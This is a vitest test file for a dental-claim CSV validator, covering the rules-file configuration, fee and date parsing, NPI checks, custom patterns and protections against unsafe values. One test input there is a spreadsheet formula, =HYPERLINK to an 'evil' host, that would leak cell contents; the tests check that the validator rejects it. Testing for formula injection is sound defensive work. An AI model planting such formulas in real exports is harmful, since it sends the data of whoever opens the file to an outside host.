import { describe, expect, it } from 'vitest';
import { LINE_FIELDS, MONEY_FIELDS, type FieldValues } from '../../src/domain/fields.js';
import { buildRuleSet, RulesFileSchema } from '../../src/domain/rules-file.js';
import { defaultRuleSet, listRules, validateRow, type RuleSet } from '../../src/domain/rules.js';

const TODAY = '2025-06-30';

const rulesFrom = (config: unknown): RuleSet => {
  const parsed = buildRuleSet(config);
  if (!parsed.ok) throw new Error(parsed.message);
  return parsed.value;
};
const errorFor = (config: unknown): string => {
  const parsed = buildRuleSet(config);
  if (parsed.ok) throw new Error(`expected ${JSON.stringify(config)} to be refused`);
  return parsed.message;
};

const DEFAULTS = defaultRuleSet();

// The third row of fixtures/claim_1234.csv, as read from the file.
const row = (overrides: FieldValues = {}): FieldValues => ({
  service_date: '3/28/18 0:00',
  submitted_procedure: 'D4346',
  quadrant: '',
  plan_group_number: 'GRP-1000',
  subscriber_number: '3730189502',
  provider_npi: '1497775530',
  provider_fees: '$130.00 ',
  allowed_fees: '$65.00 ',
  member_coinsurance: '$16.25 ',
  member_copay: '$0.00 ',
  ...overrides,
});

const rulesOf = (values: FieldValues, rules = DEFAULTS) => validateRow(values, rules, TODAY).issues.map((i) => i.rule);

describe('buildRuleSet', () => {
  it('uses the default severities without a rules file', () => {
    const severities = Object.fromEntries(listRules(DEFAULTS).map((rule) => [rule.name, rule.severity]));
    expect(severities).toEqual({
      required: 'error',
      money_format: 'error',
      money_not_negative: 'error',
      date_format: 'error',
      date_not_future: 'error',
      procedure_starts_with_d: 'error',
      quadrant_code: 'error',
      npi_format: 'error',
      npi_check_digit: 'warn',
      claim_consistent: 'error',
      money_range: 'error',
      control_characters: 'error',
      formula_text: 'error',
      column_count: 'error',
      json_syntax: 'error',
      json_row: 'error',
      claim_rejected: 'error',
    });
  });

  it('accepts an empty rules file', () => {
    expect(listRules(rulesFrom({}))).toEqual(listRules(DEFAULTS));
  });

  it('applies built-in settings and lists custom rules after the built-ins', () => {
    const rules = rulesFrom({
      builtin: { npi_check_digit: 'error', procedure_starts_with_d: 'off' },
      custom: [{ name: 'plan_group_prefix', field: 'plan_group_number', pattern: '^GRP-', message: 'plan group must start with GRP-', severity: 'warn' }],
    });
    const listed = listRules(rules);
    expect(listed.find((r) => r.name === 'npi_check_digit')?.severity).toBe('error');
    expect(listed.find((r) => r.name === 'procedure_starts_with_d')?.severity).toBe('off');
    expect(listed.at(-1)).toEqual({
      name: 'plan_group_prefix',
      field: 'plan_group_number',
      description: 'plan group must start with GRP- (pattern /^GRP-/)',
      severity: 'warn',
      configurable: true,
      builtin: false,
    });
  });

  it('defaults a custom rule to error', () => {
    const rules = rulesFrom({ custom: [{ name: 'x', field: 'quadrant', pattern: '.', message: 'm' }] });
    expect(listRules(rules).at(-1)?.severity).toBe('error');
  });

  it('lists which built-ins are configurable', () => {
    const fixed = listRules(DEFAULTS).filter((r) => !r.configurable).map((r) => r.name);
    expect(fixed).toEqual([
      'required',
      'money_format',
      'date_format',
      'claim_consistent',
      'money_range',
      'control_characters',
      'column_count',
      'json_syntax',
      'json_row',
      'claim_rejected',
    ]);
    expect(listRules(DEFAULTS).every((r) => r.builtin && r.description.length > 0)).toBe(true);
  });

  it.each([
    [{ builtin: { foo: 'off' } }, 'builtin.foo: unknown rule "foo"'],
    [{ builtin: { required: 'warn' } }, 'builtin.required: rule "required" cannot be changed'],
    [{ builtin: { claim_consistent: 'off' } }, 'builtin.claim_consistent: rule "claim_consistent" cannot be changed'],
    [{ builtin: { npi_format: 'fatal' } }, 'builtin.npi_format: expected "error", "warn" or "off"'],
    [{ extra: true }, 'extra: unknown key'],
    [{ custom: [{ name: 'a', field: 'quadrant', pattern: '.', message: 'm', flags: 'i' }] }, 'custom[0].flags: unknown key'],
    [{ custom: [{ name: 'a', field: 'tooth', pattern: '.', message: 'm' }] }, 'custom[0].field: unknown field "tooth"'],
    [{ custom: [{ name: 'a', field: 'quadrant', pattern: '(', message: 'm' }] }, 'custom[0].pattern: not a pattern this tool can run in linear time'],
    [{ custom: [{ name: 'npi_format', field: 'quadrant', pattern: '.', message: 'm' }] }, 'custom[0].name: "npi_format" is a built-in rule'],
    [{ custom: [{ name: 'a', field: 'quadrant', pattern: '.', message: 'm' }, { name: 'a', field: 'quadrant', pattern: '.', message: 'm' }] }, 'custom[1].name: duplicate rule name "a"'],
    [{ custom: [{ name: 'a', field: 'quadrant', pattern: '.', message: 'm', severity: 'off' }] }, 'custom[0].severity: expected "error" or "warn"'],
    [{ custom: [{ name: 'a', field: 'quadrant', message: 'm' }] }, 'custom[0].pattern: required'],
    [{ custom: [{ name: 'a', field: 'quadrant', pattern: '.', message: '' }] }, 'custom[0].message: must not be empty'],
    [{ custom: [{ name: 'has space', field: 'quadrant', pattern: '.', message: 'm' }] }, 'custom[0].name: expected a name'],
    [{ custom: {} }, 'custom: '],
    [null, 'rules file: '],
    [[], 'rules file: '],
  ])('refuses %j', (config, expected) => {
    expect(errorFor(config)).toContain(expected);
  });

  it('reports every problem of a rules file', () => {
    const message = errorFor({ builtin: { foo: 'off', required: 'off' }, custom: [{ name: 'a', field: 'x', pattern: '.', message: 'm' }] });
    expect(message).toContain('builtin.foo');
    expect(message).toContain('builtin.required');
    expect(message).toContain('custom[0].field');
  });

  it('exposes the file shape as a zod schema', () => {
    expect(RulesFileSchema.safeParse({ builtin: { npi_check_digit: 'off' } }).success).toBe(true);
    expect(RulesFileSchema.safeParse({ builtin: { nope: 'off' } }).success).toBe(false);
  });
});

describe('validateRow', () => {
  it('builds a normalised line from a fixture row', () => {
    const result = validateRow(row(), DEFAULTS, TODAY);
    expect(result.issues).toEqual([]);
    expect(result.line).toEqual({
      service_date: '2018-03-28',
      submitted_procedure: 'D4346',
      quadrant: null,
      plan_group_number: 'GRP-1000',
      subscriber_number: '3730189502',
      provider_npi: '1497775530',
      provider_fees_cents: 13000,
      allowed_fees_cents: 6500,
      member_coinsurance_cents: 1625,
      member_copay_cents: 0,
      net_fee_cents: 8125,
      claim_number: null,
      line_number: null,
    });
    expect(result.key).toEqual({
      claim_number: '',
      service_date: '2018-03-28',
      subscriber_number: '3730189502',
      plan_group_number: 'GRP-1000',
      provider_npi: '1497775530',
    });
  });

  it('trims and upper-cases values', () => {
    const { line } = validateRow(
      row({ submitted_procedure: ' d4211 ', quadrant: ' ur', plan_group_number: ' GRP-1 ', subscriber_number: ' 42 ', provider_npi: ' 1497775530 ', claim_number: ' C-7 ', line_number: ' 2 ' }),
      DEFAULTS,
      TODAY,
    );
    expect(line).toMatchObject({
      submitted_procedure: 'D4211',
      quadrant: 'UR',
      plan_group_number: 'GRP-1',
      subscriber_number: '42',
      provider_npi: '1497775530',
      claim_number: 'C-7',
      line_number: '2',
    });
  });

  it('reads blank claim and line numbers as null', () => {
    const { line, key } = validateRow(row({ claim_number: '  ', line_number: '' }), DEFAULTS, TODAY);
    expect(line).toMatchObject({ claim_number: null, line_number: null });
    expect(key.claim_number).toBe('');
  });

  it('reads $0.29 as 29 cents', () => {
    expect(validateRow(row({ member_copay: '$0.29' }), DEFAULTS, TODAY).line?.member_copay_cents).toBe(29);
  });

  it('reads $1,234.50 as 123450 cents', () => {
    expect(validateRow(row({ provider_fees: '$1,234.50 ' }), DEFAULTS, TODAY).line?.provider_fees_cents).toBe(123450);
  });

  it('rejects a negative fee with money_not_negative, giving the raw value', () => {
    const result = validateRow(row({ allowed_fees: ' -$5.00' }), DEFAULTS, TODAY);
    expect(result.line).toBeNull();
    expect(result.issues).toEqual([
      { rule: 'money_not_negative', field: 'allowed_fees', value: ' -$5.00', message: 'negative fee', severity: 'error' },
    ]);
  });

  it('rejects even one negative cent but not a negative zero', () => {
    expect(rulesOf(row({ member_copay: '-0.01' }))).toEqual(['money_not_negative']);
    expect(validateRow(row({ member_copay: '-0.00' }), DEFAULTS, TODAY).line?.member_copay_cents).toBe(0);
  });

  it('rejects a malformed fee with the parser message', () => {
    const result = validateRow(row({ provider_fees: '1.005', member_copay: 'n/a' }), DEFAULTS, TODAY);
    expect(result.line).toBeNull();
    expect(result.issues).toEqual([
      { rule: 'money_format', field: 'provider_fees', value: '1.005', message: 'more than two decimals', severity: 'error' },
      { rule: 'money_format', field: 'member_copay', value: 'n/a', message: 'not a money amount', severity: 'error' },
    ]);
  });

  // validateRow names each fee by hand (for the line it builds): every money field of the table is one of them.
  it.each(MONEY_FIELDS)('checks and stores the money field %s of the field table', (field) => {
    expect(validateRow(row({ [field]: 'n/a' }), DEFAULTS, TODAY).issues).toEqual([
      { rule: 'money_format', field, value: 'n/a', message: 'not a money amount', severity: 'error' },
    ]);
    expect(rulesOf(row({ [field]: '-1.00' }))).toEqual(['money_not_negative']);
    const stored = Object.entries(LINE_FIELDS).find(([, spec]) => spec.input === field)![0];
    expect(validateRow(row({ [field]: '$1,234.56 ' }), DEFAULTS, TODAY).line).toMatchObject({ [stored]: 123456 });
  });

  it('rejects 2/30/18 with date_format and keeps the trimmed raw date in the key', () => {
    const result = validateRow(row({ service_date: ' 2/30/18 ' }), DEFAULTS, TODAY);
    expect(result.line).toBeNull();
    expect(result.issues).toEqual([
      { rule: 'date_format', field: 'service_date', value: ' 2/30/18 ', message: 'no such date', severity: 'error' },
    ]);
    expect(result.key.service_date).toBe('2/30/18');
  });

  it('rejects a date after today, but not today', () => {
    expect(rulesOf(row({ service_date: '2025-07-01' }))).toEqual(['date_not_future']);
    expect(rulesOf(row({ service_date: '6/30/25' }))).toEqual([]);
  });

  it('reports each empty required field once, under required only', () => {
    const result = validateRow(
      row({ service_date: ' ', submitted_procedure: '', plan_group_number: '  ', subscriber_number: undefined, provider_npi: '', provider_fees: '' }),
      DEFAULTS,
      TODAY,
    );
    expect(result.line).toBeNull();
    expect(result.issues.map((i) => [i.rule, i.field, i.value])).toEqual([
      ['required', 'service_date', ' '],
      ['required', 'submitted_procedure', ''],
      ['required', 'plan_group_number', '  '],
      ['required', 'subscriber_number', ''],
      ['required', 'provider_npi', ''],
      ['required', 'provider_fees', ''],
    ]);
  });

  it('does not require optional fields', () => {
    const values = row();
    delete values.quadrant;
    expect(validateRow(values, DEFAULTS, TODAY).line?.quadrant).toBeNull();
  });

  it('rejects a procedure not starting with D', () => {
    expect(rulesOf(row({ submitted_procedure: '4346' }))).toEqual(['procedure_starts_with_d']);
  });

  it('rejects an unknown quadrant', () => {
    expect(rulesOf(row({ quadrant: 'XX' }))).toEqual(['quadrant_code']);
  });

  it('rejects a malformed NPI without also checking its check digit', () => {
    expect(rulesOf(row({ provider_npi: '149777553' }))).toEqual(['npi_format']);
  });

  it('warns about a bad NPI check digit but keeps the line', () => {
    const result = validateRow(row({ provider_npi: '1497775531' }), DEFAULTS, TODAY);
    expect(result.issues).toEqual([
      { rule: 'npi_check_digit', field: 'provider_npi', value: '1497775531', message: expect.any(String), severity: 'warn' },
    ]);
    expect(result.line?.provider_npi).toBe('1497775531');
  });

  it('collects every issue of a row', () => {
    expect(rulesOf(row({ submitted_procedure: 'X1', quadrant: '99', provider_npi: '1497775531', member_copay: '-1' }))).toEqual([
      'procedure_starts_with_d',
      'quadrant_code',
      'npi_check_digit',
      'money_not_negative',
    ]);
  });

  describe('with rules turned off or to warn', () => {
    it('turns an error into a warning that keeps the line', () => {
      const rules = rulesFrom({ builtin: { procedure_starts_with_d: 'warn', money_not_negative: 'warn', date_not_future: 'warn' } });
      const result = validateRow(row({ submitted_procedure: 'x100', allowed_fees: '-$5.00', service_date: '2030-01-01' }), rules, TODAY);
      expect(result.issues.map((i) => [i.rule, i.severity])).toEqual([
        ['date_not_future', 'warn'],
        ['procedure_starts_with_d', 'warn'],
        ['money_not_negative', 'warn'],
      ]);
      expect(result.line).toMatchObject({ submitted_procedure: 'X100', allowed_fees_cents: -500, net_fee_cents: 13000 + 1625 + 500, service_date: '2030-01-01' });
    });

    it('stores an unknown quadrant as written, upper-cased, when quadrant_code is off', () => {
      const result = validateRow(row({ quadrant: ' tooth 3 ' }), rulesFrom({ builtin: { quadrant_code: 'off' } }), TODAY);
      expect(result.issues).toEqual([]);
      expect(result.line?.quadrant).toBe('TOOTH 3');
    });

    it('stores a malformed NPI trimmed when npi_format is warn', () => {
      const result = validateRow(row({ provider_npi: ' 12-34 ' }), rulesFrom({ builtin: { npi_format: 'warn' } }), TODAY);
      expect(result.issues.map((i) => [i.rule, i.severity])).toEqual([['npi_format', 'warn']]);
      expect(result.line?.provider_npi).toBe('12-34');
    });

    it('makes the check digit an error when asked', () => {
      const result = validateRow(row({ provider_npi: '1497775531' }), rulesFrom({ builtin: { npi_check_digit: 'error' } }), TODAY);
      expect(result.line).toBeNull();
    });

    it('reports nothing for a rule set to off', () => {
      expect(rulesOf(row({ provider_npi: '1497775531' }), rulesFrom({ builtin: { npi_check_digit: 'off' } }))).toEqual([]);
    });
  });

  describe('custom rules', () => {
    const custom = (severity?: 'error' | 'warn') =>
      rulesFrom({
        custom: [{ name: 'plan_group_prefix', field: 'plan_group_number', pattern: '^GRP-', message: 'plan group must start with GRP-', ...(severity && { severity }) }],
      });

    it('passes a trimmed value that matches', () => {
      expect(rulesOf(row({ plan_group_number: '  GRP-9 ' }), custom())).toEqual([]);
    });

    it('rejects a value that does not match, with the rule name and message', () => {
      const result = validateRow(row({ plan_group_number: ' PG-9' }), custom(), TODAY);
      expect(result.line).toBeNull();
      expect(result.issues).toEqual([
        { rule: 'plan_group_prefix', field: 'plan_group_number', value: ' PG-9', message: 'plan group must start with GRP-', severity: 'error' },
      ]);
    });

    it('only warns when its severity is warn', () => {
      const result = validateRow(row({ plan_group_number: 'PG-9' }), custom('warn'), TODAY);
      expect(result.issues.map((i) => i.severity)).toEqual(['warn']);
      expect(result.line?.plan_group_number).toBe('PG-9');
    });

    it('checks an absent field as an empty value', () => {
      const rules = rulesFrom({ custom: [{ name: 'has_claim', field: 'claim_number', pattern: '\\S', message: 'claim number needed' }] });
      expect(rulesOf(row(), rules)).toEqual(['has_claim']);
      expect(rulesOf(row({ claim_number: 'C1' }), rules)).toEqual([]);
    });
  });
});

describe('rules against unsafe values', () => {
  it('money_range: rejects a fee beyond $1,000,000.00 even when it parses exactly', () => {
    const result = validateRow(row({ provider_fees: '$90071992547409.91', allowed_fees: '$1,000,000.00' }), DEFAULTS, TODAY);
    expect(result.line).toBeNull();
    expect(result.issues).toEqual([
      expect.objectContaining({ rule: 'money_range', field: 'provider_fees', message: 'beyond ±1000000.00' }),
    ]);
    expect(errorFor({ builtin: { money_range: 'off' } })).toMatch(/money_range" cannot be changed/);
  });

  it('control_characters: names the field holding a NUL or DEL, tab and line breaks are data', () => {
    const result = validateRow(row({ submitted_procedure: 'D0\u0000 80', subscriber_number: '37\u007f' }), DEFAULTS, TODAY);
    expect(result.line).toBeNull();
    expect(result.issues.filter((i) => i.rule === 'control_characters')).toEqual([
      expect.objectContaining({ field: 'submitted_procedure', value: 'D0\u0000 80', message: 'contains control character U+0000' }),
      expect.objectContaining({ field: 'subscriber_number', message: 'contains control character U+007F' }),
    ]);
    expect(rulesOf(row({ line_number: 'line\t1\r\n' }))).toEqual([]);
  });

  it.each(['=HYPERLINK("http://evil/?x="&A1)', '@SUM(1+1)', '=1+1', '+1', '-x', '\t1', '\r1', ' =1'])(
    'formula_text: rejects %j in a free-text field',
    (value) => {
      for (const field of ['plan_group_number', 'subscriber_number', 'claim_number', 'line_number'] as const) {
        expect(rulesOf(row({ [field]: value }))).toContain('formula_text');
      }
    },
  );

  it('formula_text: accepts ordinary values and can be turned off', () => {
    expect(rulesOf(row({ claim_number: '-12', line_number: '1', plan_group_number: 'GRP=1' }))).toEqual([]);
    const rules = rulesFrom({ builtin: { formula_text: 'off' } });
    expect(validateRow(row({ plan_group_number: '=1+1' }), rules, TODAY).line?.plan_group_number).toBe('=1+1');
  });

  it('refuses a custom pattern only a backtracking engine could run (a backreference, a lookahead)', () => {
    for (const pattern of ['(a)\\1', 'a(?=b)']) {
      const message = errorFor({ custom: [{ name: 'slow', field: 'claim_number', pattern, message: 'm' }] });
      expect(message).toMatch(/custom\[0\]\.pattern: not a pattern this tool can run in linear time/);
    }
  });
});
